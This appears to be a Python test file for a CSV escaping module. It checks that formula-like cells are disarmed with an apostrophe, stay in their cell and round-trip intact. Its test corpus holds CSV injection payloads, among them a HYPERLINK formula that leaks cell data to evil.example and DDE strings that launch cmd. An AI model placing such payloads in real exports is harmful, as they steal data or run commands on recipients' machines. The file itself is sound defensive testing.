"""Cells of CSV: nothing that strangers write is a formula, and everything comes back."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.roundtrip.cells import STARTS, cell, disarmed, rearmed

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'=1+1",
    '";=1+1;"',
    '",=1+1,"',
    '"\r\n=1+1',
    "-1",
    "+49 30 1234",
)
"""A corpus: what spreadsheets compute, and what merely looks like it."""


def read_back(line: str) -> list[str]:
    return next(csv.reader(io.StringIO(line, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_formula_is_one_as_a_cell(text: str) -> None:
    """Whatever a spreadsheet would compute begins with an apostrophe, and fills one cell."""
    (found,) = read_back(cell(text))

    assert found[:1] not in STARTS - {"'"}
    assert text == rearmed(found)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_stays_in_its_cell(text: str) -> None:
    """Neither quotes nor line breaks begin another cell or row."""
    assert ["a", text, "b"] == [rearmed(part) for part in read_back(",".join(map(cell, ("a", text, "b"))))]


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=30))
def test_every_text_comes_back(text: str) -> None:
    """Disarmed and rearmed it is the same, as a reader of CSV gives it."""
    assert text == rearmed(disarmed(text))
    assert ["x", text] == [rearmed(part) for part in read_back(",".join(map(cell, ("x", text))))]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-1, "-1"),
        (-0.5, "-0.5"),
        (1e-300, "1e-300"),
        (True, "true"),
        (None, ""),
        ("", '""'),
        ([1, -2], '"[1, -2]"'),
    ],
)
def test_numbers_stay_numbers(value: object, expected: str) -> None:
    """They are bare, with their sign; nothing is an empty cell, an empty text is not."""
    assert expected == cell(value)


def test_a_number_that_is_none_is_an_empty_cell() -> None:
    """Neither NaN nor an infinity means anything to a spreadsheet."""
    assert ["", ""] == [cell(float("nan")), cell(float("-inf"))]


def test_half_a_character_is_shown_as_its_escape() -> None:
    """JSON can carry it, UTF-8 cannot."""
    assert '"\\ud800"' == cell("\ud800")
